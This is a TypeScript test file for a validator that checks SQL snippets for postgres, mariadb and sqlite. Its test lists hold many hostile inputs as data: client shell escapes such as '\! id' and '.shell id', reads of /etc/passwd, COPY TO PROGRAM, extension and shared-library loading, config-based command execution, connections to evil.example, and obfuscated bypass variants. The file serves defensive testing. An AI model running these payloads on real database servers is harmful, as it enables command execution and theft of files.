/** A snippet is given to a client only if it consists of plain statements. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { BenchId } from '../snippets/judge.ts';
import { plainStatements } from '../snippets/plain.ts';
import { NotPlain, statementsOf } from '../snippets/statements.ts';

const servers: readonly BenchId[] = ['postgres', 'mariadb', 'sqlite'];

/** Refused whatever server the snippet is written for. */
const anywhere = [
  'SELECT 1;\n\\! id > /tmp/x',
  'SELECT 1 \\! id',
  '\\!id',
  'SELECT 1;\n.shell id',
  'SELECT 1;\n.system id',
  '.import /etc/passwd t',
  '.load ./evil',
  '.read evil.sql',
  '.open /tmp/other.db',
  '.output |sh',
  'SELECT 1;\nsource /tmp/x.sql',
  'SELECT 1;\nsystem id',
  'SELECT 1;\n  SyStEm id;',
  '/* a comment */ system id',
  'tee /tmp/x;',
  'pager sh;',
  'edit',
  '\\. /tmp/x.sql',
  'delimiter //\nSELECT 1 //',
  "SELECT LOAD_FILE('/etc/passwd');",
  "SELECT load_file/* x */('/etc/passwd');",
  "SELECT 1 INTO OUTFILE '/tmp/x';",
  "SELECT 1 INTO\nDUMPFILE '/tmp/x';",
  "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;",
  "ATTACH DATABASE '/tmp/x.db' AS x;",
  "COPY t TO PROGRAM 'id';",
  "COPY t FROM '/etc/passwd';",
  "EXEC xp_cmdshell 'id';",
  "SELECT 'never closed",
  'SELECT 1 /* never closed',
  'SELECT 1; ｓystem id;',
  'SELECT 1;\0',
];

const hostile: Readonly<Record<BenchId, readonly string[]>> = {
  postgres: [
    'SELECT 1 \\gexec',
    'SELECT 1 \\g |id',
    'SELECT 1\n\\o |id\n;',
    "\\copy t FROM PROGRAM 'id'",
    '\\setenv PAGER id',
    '\\set x `id`',
    '\\watch 1\n\\! id',
    'SELECT 1; \\watch 1 \\! id',
    'SELECT :x;',
    "SELECT :'x';",
    'SELECT `id`;',
    '-- a comment\r\\! id',
    '/* a /* b */ \\! id */ \\! id',
    'SELECT $a$ $a$ \\! id',
    "copy/* */t to/* */program 'id' -- to stdout",
    "COPY (SELECT ' to stdout') TO PROGRAM 'id';",
    'COPY "a to stdout" TO PROGRAM \'id\';',
    "SELECT PG_READ_FILE('/etc/passwd');",
    'SELECT "pg_read_file"(\'/etc/passwd\');',
    'SELECT pg_catalog . "pg_read_binary_file"(\'x\');',
    'SELECT U&"\\0070g_read_file"(\'/etc/passwd\');',
    "SELECT pg_ls_dir('/');",
    "SELECT lo_import('/etc/passwd');",
    "SELECT lo_export(1, '/tmp/x');",
    'CREATE EXTENSION plpython3u;',
    'CREATE OR REPLACE TRUSTED PROCEDURAL LANGUAGE x;',
    'DO LANGUAGE plpython3u $$ import os $$;',
    'DO $$ import os $$ LANGUAGE "plpython3u";',
    "DO 'BEGIN END';",
    "DO $$ BEGIN EXECUTE 'co' || 'py'; END $$;",
    "DO $$ BEGIN COPY t TO PROGRAM 'id'; END $$;",
    "DO $a$ BEGIN DO $b$ BEGIN COPY t FROM '/x'; END $b$; END $a$;",
    "CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE c;",
    "ALTER SYSTEM SET archive_command = 'id';",
    'ALTER SYSTEM SET "archive_command" TO \'id\';',
    "ALTER SYSTEM SET ssl_passphrase_command = 'id';",
    "ALTER ROLE author SET session_preload_libraries = '/tmp/x';",
    "SELECT set_config('archive_command', 'id', false);",
    "UPDATE pg_settings SET setting = 'x' WHERE name = 'y';",
    "SET standard_conforming_strings = off; SELECT '\\'; COPY t TO PROGRAM 'id' --';",
    "LOAD '/tmp/evil';",
    "CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p;",
    'CREATE SERVER s FOREIGN DATA WRAPPER file_fdw;',
    "SELECT dblink('host=evil.example', 'SELECT 1');",
    "SELECT query_to_xml('SELECT pg_read_file(1)', true, true, '');",
  ],
  mariadb: [
    'SELECT 1\\g\nsystem id',
    'SELECT 1 \\P cat',
    '\\T /tmp/x',
    '/*! system id */',
    "/*!50000 SELECT */ LOAD_FILE('/etc/passwd');",
    "/*M!100000 INTO OUTFILE '/tmp/x' */",
    'SELECT 1 --2\n;\nsystem id',
    '# a comment\nsystem id',
    "SELECT 'a\\'; system id;",
    "SET SESSION sql_mode = ''; SELECT 1;",
    'SET NAMES gbk;',
    "INSTALL PLUGIN x SONAME 'x.so';",
    "INSTALL SONAME 'x';",
    "CREATE FUNCTION sys_exec RETURNS int SONAME 'x.so';",
    "SET GLOBAL general_log_file = '/tmp/x.php';",
    "SET GLOBAL log_output = 'FILE';",
    'CREATE TABLE t (a int) ENGINE=CONNECT TABLE_TYPE=CSV;',
    "CREATE TABLE t (a int) DATA DIRECTORY='/tmp';",
    "EXECUTE IMMEDIATE 'SELECT 1';",
    "BEGIN NOT ATOMIC EXECUTE/* x */IMMEDIATE 'SELECT 1'; END",
    "PREPARE s FROM 'SELECT 1';",
    "CHANGE MASTER TO MASTER_HOST = 'evil.example';",
    'SHUTDOWN;',
  ],
  sqlite: [
    "SELECT load_extension('./x');",
    'SELECT "load_extension"(\'./x\');',
    "SELECT [readfile]('/etc/passwd');",
    "SELECT writefile('/tmp/x', 1);",
    'SELECT edit(1);',
    "VACUUM INTO '/tmp/x';",
    "VACUUM main INTO '/tmp/x';",
    "PRAGMA temp_store_directory = '/tmp';",
    'PRAGMA writable_schema = ON;',
    "CREATE VIRTUAL TABLE t USING csv(filename='/etc/passwd');",
    '#!shell id',
    'SELECT 1\n;\n.sh id',
  ],
};

const honest: Readonly<Record<BenchId, readonly string[]>> = {
  postgres: [
    "SELECT count(*) FROM t WHERE a::text = 'system; \\! id' -- \\! in a comment\n;",
    '/* a /* comment */ in a comment \\! */ SELECT 1;',
    "SELECT current_setting('archive_command');",
    'SELECT application_name FROM pg_stat_replication;\n\\watch 10\n',
    "ALTER SYSTEM SET max_slot_wal_keep_size = '50GB';",
    'CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.a := 1;\nEND $$;',
    'CREATE TRIGGER t BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f();',
    'COPY (SELECT 1) TO STDOUT;',
    'ALTER TABLE t ATTACH PARTITION p DEFAULT;',
    "SELECT E'a\\'b; \\\\! id', 'ä', \"Größe\" FROM t;",
    'BEGIN; SELECT 1; COMMIT',
    '(SELECT 1) UNION (SELECT 2);',
    'SELECT sum(size) FROM pg_ls_waldir();',
  ],
  mariadb: [
    'SHOW REPLICA STATUS\\G\nSTOP REPLICA;',
    'SELECT \'a\\\'; system id\', "b\\" \\! id", `c;d` FROM t # \\! id\n;',
    'SELECT @@SESSION.sql_mode;',
    "SELECT 1 AS 'one' -- source of it\n;",
    'SET SESSION lock_wait_timeout = 5;',
    'USE shop;',
  ],
  sqlite: [
    "SELECT '.shell id';",
    'SELECT 1 -- .shell id\n;',
    'CREATE TABLE t (a INTEGER PRIMARY KEY);',
    'BEGIN IMMEDIATE;\nUPDATE t SET a = 1;\nCOMMIT;',
  ],
};

const refusal = (server: BenchId, code: string) => {
  try {
    plainStatements(code, server);
    return undefined;
  } catch (cause) {
    assert.ok(cause instanceof NotPlain, String(cause));
    return cause;
  }
};

for (const server of servers) {
  for (const code of [...anywhere, ...hostile[server]]) {
    test(`${server} is not given: ${JSON.stringify(code)}`, () => assert.ok(refusal(server, code)));
  }
  for (const code of honest[server]) {
    test(`${server} is given: ${JSON.stringify(code)}`, () => {
      assert.equal(refusal(server, code), undefined);
    });
  }
}

test('a refusal names the line', () => {
  assert.equal(refusal('postgres', "SELECT 1;\n\n-- next\nCOPY t TO PROGRAM 'id';")?.line, 4);
  assert.equal(refusal('sqlite', 'SELECT 1;\n/* two\nlines */\n.shell id')?.line, 4);
});

test('statements have no comments, and are split where the server would split them', () => {
  const texts = (code: string, server: BenchId) =>
    statementsOf(code, server).map(({ text }) => text);
  const commented = texts("SELECT ';' -- a;\n, 1;\nSELECT 2", 'postgres');
  assert.deepEqual(commented, ["SELECT ';' \n\n, 1", 'SELECT 2']);
  const escaped = texts('SELECT "a\\";b"; SELECT 2\\G', 'mariadb');
  assert.deepEqual(escaped, ['SELECT "a\\";b"', 'SELECT 2']);
  const withBody = texts('DO $x$ BEGIN a; END $x$; SELECT 1', 'postgres');
  assert.deepEqual(withBody, ['DO $x$ BEGIN a; END $x$', 'SELECT 1']);
});

test('a snippet that is long costs no more than its length', () => {
  for (const server of servers) {
    for (const piece of ["'", '/*', '$a', '--', '(', '`', 'a ', '"']) {
      const before = process.cpuUsage();
      refusal(server, `SELECT ${piece.repeat(50_000)}`);
      const { user, system } = process.cpuUsage(before);
      const seconds = (user + system) / 1_000_000;
      assert.ok(seconds < 2, `${server} takes ${seconds} s for ${piece}`);
    }
  }
});
